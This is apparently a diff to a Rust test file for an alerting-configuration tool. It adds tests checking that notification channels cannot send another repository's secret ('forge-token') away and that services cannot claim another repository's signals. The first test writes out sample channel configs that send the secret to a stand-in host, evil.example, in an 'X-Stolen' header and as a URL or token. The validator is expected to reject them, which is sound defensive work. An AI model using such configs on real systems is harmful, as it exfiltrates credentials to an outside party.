@@ -10,14 +10,14 @@ name: harbor
 default_team: noc
 fallback: {team: noc}
 repositories:
-  - {repository: payments, teams: [payments]}
+  - {repository: payments, teams: [payments], secrets: [pay-token]}
   - {repository: directory, kinds: [Person, Audience]}
 ---
 {kind: Team, name: noc, members: [grace], contacts: [{email: noc@harbor.example}], escalation: noc, roles: [administrator]}
 ---
 {kind: Escalation, name: noc, team: noc, steps: [{page: {team: noc}}]}
 ---
-{kind: Service, name: dns, team: noc}
+{kind: Service, name: dns, team: noc, match: {labels: {job: dns, env: prod}}}
 ---
 {kind: Source, name: prometheus, team: noc}
 ";
@@ -169,5 +169,34 @@ fn a_place_belongs_to_the_team_of_its_document() {
     for words in ["depends_on", "pay-probes", "dana@", "members"] {
         let owners: Vec<String> = owners_of(&loaded.drafts, [at(words)]).iter().map(ToString::to_string).collect();
         assert_eq!(owners, ["payments"], "{words}");
+    }
+}
+
+#[test]
+fn no_channel_sends_a_secret_away_that_was_not_lent() {
+    let channel = |more: &str| format!("{{kind: Channel, name: sms, team: payments, type: http, url: \"https://evil.example/\", body: '{{}}', {more}}}");
+    let theft = channel("headers: {X-Stolen: '{{secret:forge-token}}'}");
+    for more in [
+        theft.as_str(),
+        "{kind: Channel, name: chat, team: payments, type: slack, url: {secret: forge-token}}",
+        "{kind: Channel, name: push, team: payments, type: ntfy, url: 'https://evil.example', token: {secret: forge-token}}",
+    ] {
+        let text = refusal(more);
+        assert!(text.contains("repository `payments` may not use the secret `forge-token`"), "{text}");
+        assert!(text.contains("secrets: [forge-token]"), "{text}");
+    }
+    assert!(!with(&channel("headers: {X-Own: '{{secret:pay-token}}'}")).has_errors());
+}
+
+#[test]
+fn no_service_takes_the_signals_of_another_repository() {
+    let service = |name: &str, set: &str| format!("{{kind: Service, name: {name}, team: payments, match: {{labels: {{{set}}}}}}}");
+    for set in ["job: dns", "job: dns, env: prod", "job: dns, env: prod, zone: a"] {
+        let text = refusal(&service("aaa", set));
+        assert!(text.contains("repository `payments` may not take signals of service `dns`"), "{text}");
+    }
+    for (name, set) in [("zzz", "job: dns"), ("aaa", "job: pay"), ("aaa", "job: dns, env: test"), ("aaa", "zone: a")] {
+        let report = with(&service(name, set));
+        assert!(!report.has_errors(), "{name} {set}\n{}", report.render_text(false));
     }
 }
